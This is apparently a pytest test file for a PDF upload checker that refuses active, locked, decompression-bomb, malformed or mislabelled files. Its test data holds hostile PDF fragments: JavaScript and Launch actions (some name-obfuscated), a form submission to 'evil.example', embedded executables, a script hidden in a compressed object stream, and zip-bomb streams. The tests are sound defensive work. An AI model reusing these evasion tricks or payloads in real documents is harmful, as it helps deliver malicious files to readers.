"""PDF from anywhere: what could act on a reader's computer, is locked, damaged or swollen is not taken, and the reason is said."""

from __future__ import annotations

import contextlib
import io
import zlib

import pypdf
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

from motcham.blocks.documents import api, pdf
from motcham.blocks.documents.define import ActivePdf, LockedPdf, SwollenPdf, Unreadable, WrongKind
from motcham.blocks.documents.testing import Sender, a_pdf
from motcham.kernel.errors import Invalid


def received(content: bytes) -> None:
    api.receive(stream=content, filename="don.pdf", by=Sender(), purpose="test")


def stream(data: bytes, filters: str = "/FlateDecode") -> str:
    return f"<</Filter {filters}/Length {len(data)}>>\nstream\n{data.decode('latin-1')}\nendstream"


@pytest.mark.parametrize(
    ("more", "what"),
    [
        ("<</S/JavaScript/JS(app.alert\\(1\\))>>", "script"),
        ("<</S/J#61vaScript/J#53(app.alert\\(1\\))>>", "script"),
        ("<</Type/Action/S/Launch/F(calc.exe)>>", "launch"),
        ("<</Type/Action/S/L#61unch/F(calc.exe)>>", "launch"),
        ("<</Kids[<</A<</S/SubmitForm/F(http://evil.example)>>>>]>>", "sends"),
        ("<</Names<</EmbeddedFiles<</Names[]>>>>>>", "file"),
        ("<</Type/Filespec/F(a.exe)/#45F<</F 5 0 R>>>>", "file"),
        ("<</Type/Annot/Subtype/RichMedia>>", "media"),
        ("<</AcroForm<</XFA(x)>>>>", "script"),
    ],
)
def test_a_pdf_that_could_act_is_refused_with_what_it_holds(more: str, what: str) -> None:
    with pytest.raises(ActivePdf) as refused:
        received(a_pdf(more))
    assert refused.value.facts["kind"] == what


def test_a_script_packed_into_an_object_stream_is_found() -> None:
    inner = b"5 0 <</S/JavaScript/JS(app.alert(1))>>"
    packed = zlib.compress(inner)
    head = f"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length {len(packed)}>>\nstream\n"
    parts, places = [b"%PDF-1.7\n"], []
    objects = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        head.encode() + packed + b"\nendstream",
    )
    for number, each in enumerate(objects, 1):
        places.append(sum(map(len, parts)))
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, each))
    at = sum(map(len, parts))
    rows = [b"\x00\x00\x00\x00\xff", *(b"\x01" + place.to_bytes(3) + b"\x00" for place in places), b"\x02\x00\x00\x04\x00"]
    table = zlib.compress(b"".join([*rows, b"\x01" + at.to_bytes(3) + b"\x00"]))
    parts.append(
        b"6 0 obj\n<</Type/XRef/Size 7/W[1 3 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream\nendobj\n"
        % (len(table), table)
    )
    parts.append(b"startxref\n%d\n%%%%EOF\n" % at)
    content = b"".join(parts)
    assert b"JavaScript" not in content

    with pytest.raises(ActivePdf):
        pdf.judge(content)


@pytest.mark.parametrize("password", ["secret", ""])
def test_a_locked_pdf_is_refused_for_nobody_can_look_what_is_in_it(password: str) -> None:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(a_pdf()))
    writer.encrypt(password, owner_password="owner", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)

    with pytest.raises(LockedPdf):
        pdf.judge(out.getvalue())


def test_a_stream_that_unpacks_to_a_flood_is_refused(monkeypatch) -> None:
    monkeypatch.setattr(pdf, "MOST_UNPACKED", 1_000_000)
    fits, flood = zlib.compress(bytes(900_000)), zlib.compress(bytes(1_100_000))

    pdf.judge(a_pdf(stream(fits)))
    with pytest.raises(SwollenPdf):
        pdf.judge(a_pdf(stream(flood)))
    with pytest.raises(SwollenPdf):
        pdf.judge(a_pdf(stream(fits), stream(fits)))


def test_what_is_packed_twice_is_refused() -> None:
    with pytest.raises(SwollenPdf):
        pdf.judge(a_pdf(stream(zlib.compress(zlib.compress(bytes(1000))), "[/FlateDecode/FlateDecode]")))


def test_streams_without_end_are_refused(monkeypatch) -> None:
    monkeypatch.setattr(pdf, "MOST_STREAMS", 10)
    with pytest.raises(SwollenPdf):
        pdf.judge(a_pdf(*[stream(b"", "/None")] * 20))


def test_a_stream_of_objects_that_floods_is_refused(monkeypatch) -> None:
    monkeypatch.setattr(pdf, "MOST_OBJECT_BYTES", 1000)
    held = zlib.compress(b"<<>>" * 300)
    with pytest.raises(SwollenPdf):
        pdf.judge(a_pdf(stream(held, "/FlateDecode/Type/ObjStm")))


@pytest.mark.parametrize("filters", ["[/ASCIIHexDecode/FlateDecode]", "/LZWDecode", "/FlateDecode/DecodeParms<</Predictor 12>>"])
def test_objects_packed_so_that_words_cannot_be_found_are_refused(filters: str) -> None:
    with pytest.raises(Unreadable):
        pdf.judge(a_pdf(stream(b"00", f"{filters}/Type/ObjStm")))


@pytest.mark.parametrize(
    "rubbish", ["[" * 4_000_000, "/A" * 4_000_000, "<</A" * 2_000_000, "stream\n" * 1_000_000, "/#4a" * 2_000_000]
)
def test_a_file_made_to_keep_a_parser_busy_is_judged_all_the_same(rubbish: str) -> None:
    with contextlib.suppress(Invalid):
        pdf.judge(a_pdf(rubbish))


def test_an_object_hidden_in_what_looks_like_a_stream_is_found() -> None:
    with pytest.raises(ActivePdf):
        pdf.judge(a_pdf(stream(b"9 0 obj <</S/JavaScr#69pt>> endobj", "/None")))


def test_a_pdf_in_name_alone_is_refused() -> None:
    with pytest.raises(Unreadable):
        received(b"%PDF-1.7\nnothing at all\n%%EOF\n")
    with pytest.raises(WrongKind):
        received(b"MZ\x90\x00 a program called don.pdf")


def test_links_forms_and_pictures_are_no_harm() -> None:
    link = "<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://dichvucong.gov.vn)>>>>"
    pdf.judge(a_pdf(link, "<</OpenAction[3 0 R/Fit]>>", "<</AcroForm<</Fields[]/SigFlags 3>>>>", stream(zlib.compress(b"q Q"))))


def test_what_pypdf_writes_is_taken() -> None:
    writer = pypdf.PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    content = DecodedStreamObject()
    content.set_data(b"BT ET" * 1000)
    page[NameObject("/Contents")] = writer._add_object(content.flate_encode())
    page[NameObject("/Resources")] = DictionaryObject()
    out = io.BytesIO()
    writer.write(out)
    pdf.judge(out.getvalue())


@given(st.binary(max_size=200), st.integers(0, 400))
def test_rubbish_is_refused_and_breaks_nothing(rubbish: bytes, at: int) -> None:
    content = a_pdf()
    with contextlib.suppress(Invalid):
        pdf.judge(content[:at] + rubbish + content[at:])
